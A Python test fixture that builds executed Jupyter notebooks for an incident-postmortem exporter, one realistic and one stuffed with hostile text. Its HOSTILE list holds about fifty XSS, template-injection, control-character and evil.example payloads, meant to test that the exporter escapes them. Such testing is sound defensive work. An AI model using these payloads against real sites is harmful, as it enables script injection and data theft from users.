"""Executed notebooks as the exporter meets them: one as a team would have it, one full of hostile text."""

import html
import math

import nbformat.v4 as v4
from nbformat import NotebookNode

# Lines that somebody could bring into a log. Each tries another way out of being text.
HOSTILE = (
    "<script>alert('plain')</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)><a title="',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<a href='javascript:alert(1)'>log in again</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>tab</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>report</a>",
    "[log in](javascript:alert(1))",
    "[log in](<java&#10;script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png)",
    "![x](attachment:none.png)",
    '![a"onerror="alert(1)](x)',
    "[a]: https://evil.example/ref 'x' <b onmouseover=alert(1)>[a]</b>",
    "<https://evil.example/auto> and www.evil.example",
    "</style><script>alert(1)</script>",
    "</title></textarea></pre></main></body></html><script>alert(1)</script>",
    "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x.png)'>covered</div>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- never closed",
    "<details open ontoggle=alert(1)><summary>open",
    "<plaintext>everything after this",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<button commandfor=a command=show-modal>x</button><b data-commandlinker-command=run>y</b>",
    "<h1 id=main>Everything is fine</h1><h2 id=claim-onset>Impact</h2>",
    "]]><script>alert(1)</script>",
    "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7}",
    "{{ resources.css }}{# gone? #}",
    "costs $5 and $6, $\\href{javascript:alert(1)}{x}$ and $$\\unicode{<img src=x onerror=alert(1)>}$$",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x07\x08\x00",
    "user \u202egpj.exe\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\ufeff pay\u2060load \u00ad",
    "half a pair \ud83d and the rest",
    "```\n<script>alert(1)</script>\n``` <!-- | pipe | table |",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | `</script>` |",
    "\u2028\u2029line ends",
    "W" * 3000,
)


def cell(source: str, *outputs: NotebookNode, count: int = 1, tags: tuple[str, ...] = ()) -> NotebookNode:
    """Return an executed code cell."""
    made = v4.new_code_cell(source, execution_count=count, outputs=list(outputs), metadata={"tags": list(tags)})
    made.metadata["papermill"] = {"start_time": f"2024-02-0{1 + count % 9}T10:00:00", "status": "completed"}
    return made


def shown(metadata: dict | None = None, **data: str) -> NotebookNode:
    """Return a display output; ``text_html`` stands for ``text/html``, ``image_svg`` for the SVG type."""
    kinds = {"image_svg": "image/svg+xml"}
    return v4.new_output(
        "display_data",
        {kinds.get(name, name.replace("_", "/", 1)): value for name, value in data.items()},
        metadata=metadata or {},
    )


def chart(alt: str, caption: str, text: str = "errors") -> NotebookNode:
    """Return a drawing with its words, as a chart of ours displays itself."""
    y = [180 - 150 * math.exp(-(((x - 48) / 14) ** 4)) for x in range(120)]
    line = " ".join(f"{40 + 5 * x},{v:.1f}" for x, v in enumerate(y))
    svg = (
        '<?xml version="1.0" encoding="utf-8"?>\n<!-- drawn at 10:00 -->\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="648pt" height="180pt" viewBox="0 0 864 240">'
        "<metadata>2024-02-01T10:00:00</metadata>"
        '<rect width="864" height="240" fill="white"/><rect x="190" y="20" width="165" height="170" fill="#f7dfd0"/>'
        '<g stroke="#ddd"><path d="M40 60H640M40 120H640"/></g><path d="M40 190H640" stroke="#555"/>'
        f'<polyline points="{line}" fill="none" stroke="#0072b2" stroke-width="2"/>'
        '<g font-family="DejaVu Sans, sans-serif" font-size="13" fill="#333"><text x="40" y="210">17:00</text>'
        f'<text x="190" y="210">17:15</text><text x="355" y="210">17:51 UTC</text>'
        f'<text x="660" y="180" fill="#0072b2">{html.escape(text)}</text></g></svg>'
    )
    about = {"alt": alt, "caption": caption}
    return shown({"image/svg+xml": about}, image_svg=svg, text_plain="<Chart>")


def table(caption: str, columns: list[str], rows: list[list[str]], ids: str = "") -> str:
    """Return a table in our vocabulary; numbers are the cells that begin with a digit."""
    head = "".join(f'<th scope="col">{html.escape(c)}</th>' for c in columns)
    body = ""
    for row in rows:
        first, *rest = (html.escape(v) for v in row)
        name = f' id="{ids}{row[0].replace(" ", "_")}"' if ids else ""
        cells = "".join(f'<td class="num">{v}</td>' if v[:1].isdigit() else f"<td>{v}</td>" for v in rest)
        body += f'<tr{name}><th scope="row">{first}</th>{cells}</tr>'
    label = html.escape(caption)
    return (
        f'<div class="pnb-table" role="region" tabindex="0" aria-label="{label}"><table class="pnb">'
        f"<caption>{label}</caption><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table></div>"
    )


def card(title: str = "Checkout and login failed for a third of requests") -> str:
    """Return the header card."""
    figures = [
        ("Impact", "38 %", "36–41 % of requests, 36 min", "measured"),
        ("Time to detect", "7 min", "6 min 30 s–7 min 30 s", "measured onset, declared detection"),
        ("Time to mitigate", "29 min", "28–31 min", "measured onset, declared mitigation"),
        ("Time to recover", "36 min", "35 min 30 s–36 min 30 s", "measured"),
    ]
    cells = "".join(
        f'<div class="pnb-figure"><dt class="pnb-name"><a class="pnb-claim" href="#claim-onset">{n}</a></dt>'
        f'<dd class="pnb-value">{v}</dd><dd class="pnb-interval">{i}</dd><dd class="pnb-basis">{b}</dd></div>'
        for n, v, i, b in figures
    )
    return (
        "<style>.pnb-card{color:red}</style><section class='pnb-card'><p class='pnb-labels'>"
        "<span class='pnb-label'>Severity 1</span><span class='pnb-label'>Reviewed</span>"
        "<span class='pnb-label'>web, checkout, login</span><span class='pnb-label'>2024-01-14</span></p>"
        f"<h1>{html.escape(title)}</h1><p class='pnb-lead'>From 17:15 to 17:51 UTC on 14 January 2024 the web tier "
        "answered one request in three with an error, because a new pool limit starved the login service.</p>"
        f"<dl class='pnb-figures'>{cells}</dl>"
        "<p class='pnb-synthetic'><strong>Synthetic telemetry.</strong> Logs and metrics were drawn by a script.</p>"
        "<ol class='pnb-findings'><li class='pnb-finding pnb-error' id='finding-1'><strong>Error</strong> "
        "<span class='pnb-place'>incident.toml:12</span> Declared recovery 17:40 lies 11 min before the measured one. "
        "<span class='pnb-fix'>Correct `recovered`, or say in a note what it meant.</span></li>"
        "<li class='pnb-finding pnb-warning'><strong>Warning</strong> <span class='pnb-place'>logs/error.log</span> "
        "3 of 4,812 lines could not be read.</li><li class='pnb-finding pnb-note'><strong>Note</strong> "
        "No page was recorded.</li></ol><details class='pnb-more'><summary>4 more findings</summary>"
        "<p>All of them are listed under data quality.</p></details></section>"
    )


def ignored(markup: str) -> str:
    """Return markup as our sections display it: JupyterLab looks for no formula in it."""
    return f'<div class="mathjax_ignore">{markup}</div>'


def times_table() -> str:
    """Return the widest table of a report: definitions, intervals, and times with labels."""
    rows = [
        ("time_to_detect", "5 min 20 s", "5 min 19 s – 5 min 23 s", "impact began", "incident detected",
         "measured + system"),
        ("time_to_mitigate", "32 min", "31–33", "impact began", "impact no longer severe", "measured"),
        ("failed_deployment_recovery_time", "1 min 38 s – 2 min 41 s", "", "triggering change completed",
         "service recovered", "declared + measured"),
    ]  # fmt: skip
    head = "".join(f"<th scope='col'>{c}</th>" for c in ("Time", "Value", "From", "To", "Basis"))
    when = "<time>17:17:40 UTC (17:17:38–17:17:41)</time>"
    body = "".join(
        f"<tr id='claim-{name}'><th scope='row'><a href='#claim-{name}'>{name.replace('_', ' ')}</a><br>"
        "<small>from the start of impact to the first signal, or to the first person who was aware of it</small></th>"
        f"<td class='num'>{value}<br><small>{bounds}</small></td><td>{start}, {when}</td><td>{end}, {when}</td>"
        f"<td>{basis}</td></tr>"
        for name, value, bounds, start, end, basis in rows
    )
    label = "Times, each between two named events"
    return (
        f"<div class='pnb-table' role='region' tabindex='0' aria-label='{label}'><table class='pnb'>"
        f"<caption>{label}</caption><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table></div>"
    )


def ledger() -> str:
    """Return a table of claims: names in code that may break after a low line, and a time a row."""
    names = ("onset", "failed_<wbr>deployment_<wbr>recovery_<wbr>time")
    body = "".join(
        f"<tr><th scope='row'><code>{name}</code></th><td><time>2024-01-14 17:17:40 UTC</time></td><td>measured</td>"
        "<td>from the triggering change to full service, if it was a deployment that needed a rollback or a fix</td>"
        "<td>logs/access.log.gz; logs/apache-error.log; logs/nginx-error.log</td>"
        "<td><code>0be415bb1b5a99e1</code></td></tr>"
        for name in names
    )
    head = "".join(f"<th scope='col'>{c}</th>" for c in ("Claim", "Value", "Basis", "Definition", "From", "Hash"))
    return (
        "<div class='pnb-table' role='region' tabindex='0' aria-label='Claims'><table class='pnb'>"
        f"<caption>Claims</caption><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table></div>"
    )


def notebook(first_count: int = 1, title: str = "Checkout and login failed for a third of requests") -> NotebookNode:
    """Return the executed notebook of an incident; hostile lines stand in it as escaped evidence."""
    n = iter(range(first_count, first_count + 99))
    claim = '<a class="pnb-claim" href="#claim-time_to_detect" title="detected − onset">7 min</a>'
    evidence = "".join(
        f'<details class="pnb-evidence"><summary><code class="pnb-line">{html.escape(line[:60])}</code> '
        f'<span class="pnb-place">logs/error.log:{i}</span></summary><pre>{html.escape(line)}</pre></details>'
        for i, line in enumerate(HOSTILE, 1)
    )
    timings = ignored(times_table())
    verdicts = (
        '<div class="pnb-table" role="region" tabindex="0" aria-label="Declared against measured"><table class="pnb">'
        "<caption>Declared against measured</caption><thead><tr><th scope='col'>Milestone</th>"
        "<th scope='col'>Declared</th><th scope='col'>Measured</th><th scope='col' class='num'>Difference</th>"
        "<th scope='col'>Verdict</th></tr></thead><tbody>"
        + "".join(
            f"<tr><th scope='row'>{m}</th><td>{d}</td><td>{s}</td><td class='num'>{x}</td>"
            f"<td><span class='pnb-verdict pnb-{v.replace(' ', '-')}'>{v}</span></td></tr>"
            for m, d, s, x, v in [
                ("started", "17:15", "17:15", "0 s", "agrees"),
                ("detected", "17:22", "17:21", "1 min", "within resolution"),
                ("recovered", "17:40", "17:51", "−11 min", "contradicts"),
                ("acknowledged", "17:24", "not recorded", "–", "no evidence"),
            ]
        )
        + "</tbody></table></div>"
    )
    patterns = table(
        "New and surging log patterns",
        ["Pattern", "Before", "During", "After", "Example"],
        [
            ["upstream timed out while reading from <*>", "3", "4,812", "7", HOSTILE[0]],
            ["worker_connections are not enough", "0", "911", "0", HOSTILE[3]],
            ["GET /api/v2/session/<*> 502", "12", "2,044", "15", HOSTILE[-1][:120]],
        ],
    )
    files = table(
        "Files of evidence",
        ["File", "Kind", "Rows", "Rejected", "SHA-256"],
        [
            [f"logs/web-{i}/nginx-access.log.gz", "logs", "48,120", "3", "9f86d081884c7d659a2feaa0c55ad015"]
            for i in range(4)
        ],
    )
    cells = [
        cell("incident = 'x'  # name of the folder", count=next(n), tags=("parameters",)),
        cell("# Parameters\nincident = '2024-01-14'", count=next(n), tags=("injected-parameters",)),
        cell(
            "import postmortem_nb as pnb", v4.new_output("stream", name="stderr", text="/tmp/ipykernel_1/1.py: Warning")
        ),
        cell("post", shown(text_html=card(title), text_plain="<Postmortem>"), count=next(n)),
        v4.new_markdown_cell("## Issue summary"),
        cell(
            "post.summary",
            shown(
                text_markdown=f"The first report came {claim} after the onset. Two explanations were held and refuted "
                "before the cause was found: a **network fault** in the front tier and a *slow query* in the store. "
                "Neither had evidence in the logs, and together they cost 14 of the 36 minutes.\n\nThe pool limit had "
                "been changed at 17:05 as part of a routine release. It took effect when the first worker restarted."
            ),
            shown(
                text_html="<dl class='pnb-facts'><div><dt>When</dt><dd>2024-01-14 17:15–17:51 UTC (36 min)</dd></div>"
                "<div><dt>Who</dt><dd>everyone who logged in or paid</dd></div>"
                "<div><dt>Cause</dt><dd>a pool limit</dd></div></dl>"
            ),
            count=next(n),
        ),
        v4.new_markdown_cell("## Impact\n\nWhat users met, minute by minute."),
        cell(
            "post.impact",
            chart("Error ratio rises from 0.2 % to 38 % at 17:15.", "Failed share of requests, per minute, UTC."),
            count=next(n),
        ),
        v4.new_markdown_cell("## Timings"),
        cell("post.timings", shown(text_html=timings), shown(text_html=verdicts), count=next(n)),
        v4.new_markdown_cell(
            "## Timeline\n\n### Misleading paths\n\n1. Network fault, 17:24–17:31, refuted by healthy probes.\n"
            "2. Slow query, 17:31–17:38, refuted by the store's own latency.\n\n"
            "See [what changed](#What-changed-in-the-logs)."
        ),
        v4.new_markdown_cell("## What changed in the logs"),
        cell(
            "post.logs",
            chart("Log lines by level.", "Lines per minute by level, UTC.", HOSTILE[0]),
            shown(text_html=patterns),
            shown(text_html=evidence),
            count=next(n),
        ),
        v4.new_markdown_cell("## Lessons"),
        cell(
            "post.lessons",
            shown(
                text_html=ignored(
                    "<div class='pnb-prose'><p>The pool limit was changed together with eleven other settings, and "
                    "nobody could say afterwards which of them had been tried on a canary and which had gone straight "
                    "to every host at once.</p><h3>What went well</h3><ul><li>The rollback was one command.</li></ul>"
                    "<h3>What went badly</h3><ul><li>Nobody was paged.</li></ul></div>"
                )
            ),
            count=next(n),
        ),
        v4.new_markdown_cell("## Open questions"),
        cell("post.questions", shown(text_html="<p class='pnb-todo'>Not written yet.</p>"), count=next(n)),
        v4.new_markdown_cell("## Provenance\n\n| what | value |\n|---|--:|\n| rows | 48,120 |\n"),
        cell(
            "post.provenance",
            shown(text_html=files),
            shown(
                text_html="<details class='pnb-more'><summary>Every claim</summary>"
                f"{ledger()}<details class='pnb-evidence'><summary>A line</summary><pre>folded twice</pre></details>"
                "</details>"
            ),
            count=next(n),
        ),
    ]
    made = v4.new_notebook(
        cells=cells, metadata={"papermill": {"output_path": "/secret/place/out.ipynb", "duration": 3.1 * first_count}}
    )
    made.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return made


def hostile_notebook() -> NotebookNode:
    """Return a notebook that holds every hostile line raw, wherever text can stand."""
    cells = [cell("post", shown(text_html=card("".join(HOSTILE[:4]))))]
    for line in HOSTILE:
        cells += [
            v4.new_markdown_cell(f"before {line} after"),
            v4.new_markdown_cell(f"## {line}\n\n{line}"),
            cell("a", shown(text_markdown=line), shown(text_html=line), shown(text_plain=line)),
            cell(
                "b",
                shown(text_html=f'<p title="{line}">{line}</p><td>{line}'),
                chart(line, line, html.escape(line[:40])),
            ),
            cell("c", v4.new_output("stream", name="stdout", text=line)),
            cell("d", shown({"image/png": {"alt": line}}, image_png="iVBORw0KGgo=", text_plain=line)),
            cell("e", v4.new_output("error", ename=line[:20], evalue=line, traceback=[line])),
            cell("f", shown(**{"application_javascript": "alert(1)", "text_plain": "<Javascript object>"})),
        ]
    return v4.new_notebook(cells=cells, metadata={"title": HOSTILE[0]})
